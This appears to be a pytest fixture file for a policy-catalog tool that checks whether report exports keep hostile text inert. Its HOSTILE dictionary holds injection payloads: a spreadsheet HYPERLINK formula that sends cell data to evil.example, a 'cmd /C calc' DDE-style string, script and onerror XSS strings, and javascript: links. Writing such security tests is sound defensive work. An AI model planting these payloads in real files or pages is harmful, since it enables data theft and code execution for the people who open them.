"""Export fixtures: reports of the tiny catalog, and a copy of it full of hostile text.

The hostile catalog puts formula starts (``=``, ``+``, ``-``, ``@``), HTML that would run,
Markdown links and images with ``javascript:`` and outside addresses into titles, names,
rationales, quotes and a source's title: every export must carry them as inert text.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from policybench import catalog
from policybench.analysis import rank_catalog
from policybench.catalog import Catalog
from policybench.export.report import Report, build_report

FIXED_TIME = "2025-01-31T09:30:00Z"

HOSTILE = {
    "formula_title": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "minus_title": "-2+3",
    "plus_title": "+cmd|' /C calc'!A0",
    "at_name": "@SUM(1+1) <b>bold</b>",
    "group_name": "<script>alert('group')</script>",
    "rationale": "<img src=x onerror=alert(1)> [click](javascript:alert(1)) https://evil.example/track.png",
    "quote": "<script>alert(1)</script> ![x](https://evil.example/x.png) www.evil.example",
    "source_title": "Read https://evil.example/ & <i>more</i>",
}


def _q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text)


TINY_OPTIONS = Path(__file__).resolve().parents[1] / "fixtures" / "catalog"


@pytest.fixture(scope="module")
def tiny() -> Catalog:
    return catalog.load(TINY_OPTIONS)


@pytest.fixture(scope="module")
def hostile_options(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "catalog"
    shutil.copytree(TINY_OPTIONS, root)
    edits: dict[str, list[tuple[str, str]]] = {
        "policies/liaison.yaml": [
            ("title: Liaison officers", f"title: {_q(HOSTILE['formula_title'])}"),
            (
                "rationale: Test rationale for liaison on feasibility.",
                f"rationale: {_q(HOSTILE['rationale'])}",
            ),
            (
                'text: "One easy solution would be establishing a liaison position in each alliance headquarters"',
                f"text: {_q(HOSTILE['quote'])}",
            ),
        ],
        "policies/summits.yaml": [
            ("title: Regular summits", f"title: {_q(HOSTILE['minus_title'])}")
        ],
        "policies/two-plus-two.yaml": [
            ("title: A 2+2 meeting", f"title: {_q(HOSTILE['plus_title'])}")
        ],
        "criteria.yaml": [("name: Chinese backlash", f"name: {_q(HOSTILE['at_name'])}")],
        "groups.yaml": [("name: Dialogue", f"name: {_q(HOSTILE['group_name'])}")],
        "sources.yaml": [
            (
                'title: "Japan-South Korea: So Close, Yet So Far"',
                f"title: {_q(HOSTILE['source_title'])}",
            )
        ],
    }
    for rel, pairs in edits.items():
        path = root / rel
        text = path.read_text(encoding="utf-8")
        for old, new in pairs:
            assert old in text, (rel, old)
            text = text.replace(old, new)
        path.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile(hostile_options: Path) -> Catalog:
    return catalog.load(hostile_options)


@pytest.fixture(scope="module")
def make_report() -> Callable[..., Report]:
    """``make_report(cat, methods=("wsm", "topsis"), preset=None, **kw)``: a report at a fixed time."""

    def make(
        cat: Catalog,
        methods: tuple[str, ...] = ("wsm", "topsis"),
        preset: str | None = None,
        **kw: Any,
    ) -> Report:
        weights = dict(cat.presets_by_id[preset].weights) if preset else None
        label = f"preset {preset}" if preset else "equal weights"
        rankings = [rank_catalog(cat, weights, method=m, label=label) for m in methods]
        kw.setdefault("timestamp", FIXED_TIME)
        return build_report(cat, rankings, preset=preset, weights_given=weights, **kw)

    return make
